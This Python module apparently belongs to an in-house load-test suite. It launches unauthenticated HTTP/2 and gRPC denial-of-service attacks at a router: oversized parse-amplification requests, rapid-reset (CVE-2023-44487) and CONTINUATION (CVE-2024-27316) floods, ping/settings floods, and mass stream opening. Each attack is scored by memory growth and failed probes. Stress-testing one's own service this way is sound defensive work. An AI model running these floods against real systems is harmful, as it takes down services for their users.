"""HTTP/2 against the gRPC port of a router, without a key."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Iterator
from contextlib import suppress

import grpc

from loadtest.hostile import frames
from loadtest.hostile.frames import Parser
from loadtest.hostile.vocabulary import MIB, Attack, Felt, Found, Target, Watched
from loadtest.hostile.wire import Line, call, loopback, push

GENERATE = "/baton.v1.Inference/Generate"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
PARAMS, BAD_WORD_IDS = 4, 16
TINY = frames.part(BAD_WORD_IDS, b"")
"""A message of three bytes, which takes forty times as much when it is parsed."""
CALLS = 8
FLOOD_S = 8.0
RESETTING = 4
"""Connections at a time that open streams and reset them."""
MAX_CONNECTIONS = 1000
MAX_TAKEN = 1024 * MIB
STREAMS, CONNECTIONS = 60, 50
MAX_STREAM = 1 << 31


def many_messages(size: int = 8 * MIB - 64) -> bytes:
    """Return a GenerateRequest of millions of messages."""
    return frames.part(PARAMS, TINY * (size // len(TINY)))


async def no_key(target: Target, found: Found) -> None:
    """Make calls that must be refused."""
    loopback(target.grpc)
    request = many_messages()
    options = (("grpc.max_send_message_length", 16 * MIB),)
    async with grpc.aio.insecure_channel(target.grpc, options) as channel:
        generate = channel.unary_stream(GENERATE, None, None)
        for _ in range(CALLS):
            try:
                async for _ in generate(request, timeout=10):
                    pass
                found.count("OK")
            except grpc.aio.AioRpcError as error:
                found.count(error.code().name)
    await asyncio.sleep(2.0)  # memory in use after this counts as kept


def _kept(found: Found, watched: Watched, felt: Felt) -> bool:
    return watched.rss_grew > 200


async def _greeted(target: Target) -> Line:
    line = await call(target.grpc)
    line.writer.write(frames.PREFACE + frames.settings() + frames.settings(ack=True))
    return line


async def _flood(target: Target, found: Found, pieces: Iterator[bytes]) -> None:
    """Send as fast as the router takes it. Answers are not read; only a close is noticed."""
    until = time.monotonic() + FLOOD_S
    taken = connections = 0
    while time.monotonic() < until and connections < MAX_CONNECTIONS and taken < MAX_TAKEN:
        try:
            line = await _greeted(target)
        except OSError:
            found.count("refused connection")
            await asyncio.sleep(0.1)
            continue
        connections += 1
        sent = 0
        while time.monotonic() < until and taken + sent < MAX_TAKEN and (piece := next(pieces, b"")):
            if not (now := await push(line, piece, until=until)):
                break
            sent += now
        taken += sent
        found.count("closed" if line.reader.at_eof() or line.writer.transport.is_closing() else "taken")
        line.close()
        await asyncio.sleep(0.01)
    for name, amount in (("swallowed_mib", taken / MIB), ("connections", connections)):
        found.figures[name] = found.figure(name) + amount


def _resets() -> Iterator[bytes]:
    """Yield the frames of CVE-2023-44487."""
    head = frames.grpc_head(GENERATE)
    stream = 1
    while True:
        opened = range(stream, stream + 400, 2)
        yield b"".join(frames.headers(each, head) + frames.reset(each) for each in opened)
        stream = (stream + 400) % MAX_STREAM


async def rapid_reset(target: Target, found: Found) -> None:
    await asyncio.gather(*(_flood(target, found, _resets()) for _ in range(RESETTING)))


def _continuations() -> Iterator[bytes]:
    """Yield the frames of CVE-2024-27316."""
    yield frames.headers(1, frames.grpc_head(GENERATE), whole=False)
    piece = frames.continuation(1, b"".join(frames.field(f"x-{i}", "a" * 1000) for i in range(15)))
    while True:
        yield piece * 10


async def continuations(target: Target, found: Found) -> None:
    await _flood(target, found, _continuations())


def _pings() -> Iterator[bytes]:
    while True:
        yield b"".join(frames.settings({4: 65535}) + frames.ping(i) for i in range(500))


async def pings(target: Target, found: Found) -> None:
    """Send pings and settings, and do not read their answers."""
    await _flood(target, found, _pings())


def _harmed(found: Found, watched: Watched, felt: Felt) -> bool:
    return watched.rss_grew > 200 or bool(felt.failed) or felt.probes_failed > 1


async def _read(line: Line, told: dict[int, bool]) -> None:
    """Record which streams have had an answer, and whether they have ended; pings are answered."""
    parser = Parser()
    with suppress(OSError):
        while data := await line.reader.read(1 << 16):
            for frame in parser.feed(data):
                ended = frame.kind == frames.RST_STREAM or bool(
                    frame.kind in (frames.HEADERS, frames.DATA) and frame.flags & frames.END_STREAM
                )
                if frame.stream and frame.kind in (frames.HEADERS, frames.DATA, frames.RST_STREAM):
                    told[frame.stream] = ended or told.get(frame.stream, False)
                elif frame.kind == frames.PING and not frame.flags & frames.ACK:
                    line.writer.write(frames.frame(frames.PING, frames.ACK, 0, frame.payload))
    for stream in told:
        told[stream] = True


async def streams(target: Target, found: Found) -> None:
    """Open streams of the health and the reflection service, which need no key."""
    watch, reflect = frames.grpc_head(WATCH), frames.grpc_head(REFLECTION)
    nothing = frames.data(1, frames.grpc_message(b""), end=True)[frames.HEAD_BYTES :]
    told: list[dict[int, bool]] = []
    readers, lines = [], []
    for _ in range(CONNECTIONS):
        try:
            line = await _greeted(target)
        except OSError:
            found.count("refused connection")
            continue
        lines.append(line)
        told.append({})
        readers.append(asyncio.create_task(_read(line, told[-1])))
        for number in range(STREAMS):
            stream = 2 * number + 1
            if number % 4:
                line.writer.write(frames.headers(stream, watch) + frames.data(stream, nothing, end=True))
            else:
                line.writer.write(frames.headers(stream, reflect) + frames.data(stream, nothing))
    await asyncio.sleep(6.0)
    open_still = sum(not ended for each in told for ended in each.values())
    found.figures["streams_open"] = open_still
    found.got |= {"stream open": open_still, "stream ended": sum(map(len, told)) - open_still}
    for task in readers:
        task.cancel()


def _streams_stay(found: Found, watched: Watched, felt: Felt) -> bool:
    return found.figure("streams_open") > 1000


ATTACKS = (
    Attack(
        name="grpc-no-key",
        finding="S1",
        aim="refused calls keep 200 MiB",
        run=no_key,
        reached=_kept,
        max_s=40,
    ),
    Attack(
        name="grpc-streams",
        finding="S19",
        aim="1,000 streams of strangers are open",
        run=streams,
        reached=_streams_stay,
        max_s=30,
    ),
    Attack(
        name="h2-rapid-reset",
        finding="",
        aim="200 MiB are kept, or somebody fails",
        run=rapid_reset,
        reached=_harmed,
    ),
    Attack(
        name="h2-continuation",
        finding="",
        aim="200 MiB are kept, or somebody fails",
        run=continuations,
        reached=_harmed,
    ),
    Attack(
        name="h2-pings", finding="", aim="200 MiB are kept, or somebody fails", run=pings, reached=_harmed
    ),
)
